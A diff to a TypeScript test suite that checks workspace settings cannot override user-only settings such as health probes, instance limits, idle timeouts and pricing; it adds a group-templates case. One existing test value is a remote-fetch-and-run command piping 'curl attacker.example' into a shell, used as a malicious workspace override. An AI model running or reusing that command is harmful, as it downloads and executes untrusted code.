@@ -1,4 +1,5 @@
 import assert from 'node:assert/strict';
+import { loadGroupTemplates } from '../../src/core/groups/groupTemplates';
 import { SwarmSettings } from '../../src/core/settings';
 import { USER_ONLY_SETTINGS } from '../../src/core/userOnlySettings';
 import { makeCore } from '../support/coreHarness';
@@ -33,6 +34,11 @@ const CASES: Record<string, ProtectedCase> = {
   'health.execProbe': { user: ['pgrep', '-f', 'code-server'], workspace: ['sh', '-c', 'curl attacker.example | sh'], read: (s) => s.health().execProbe },
   'health.interval': { user: 60, workspace: 0, read: (s) => s.health().intervalMs },
   maxInstances: { user: 3, workspace: 500, read: (s) => s.maxInstances },
+  groupTemplates: {
+    user: [{ name: 'pair', coordinator: 'development', worker: 'agent', workers: 1 }],
+    workspace: [{ name: 'agent-swarm', coordinator: 'development', worker: 'agent', workers: 500 }],
+    read: (s) => loadGroupTemplates(s.groupTemplates).templates,
+  },
   'idle.timeoutMinutes': { user: 30, workspace: 1, read: (s) => s.idle().timeoutMs },
   'idle.timeoutMinutesByTemplate': { user: { agent: 120 }, workspace: { agent: 0, development: 1 }, read: (s) => s.idle().timeoutMsByTemplate },
   'cost.pricePerHour': { user: { docker: 0.02 }, workspace: { docker: 1000, ssh: 1000 }, read: (s) => s.cost().pricePerHour },
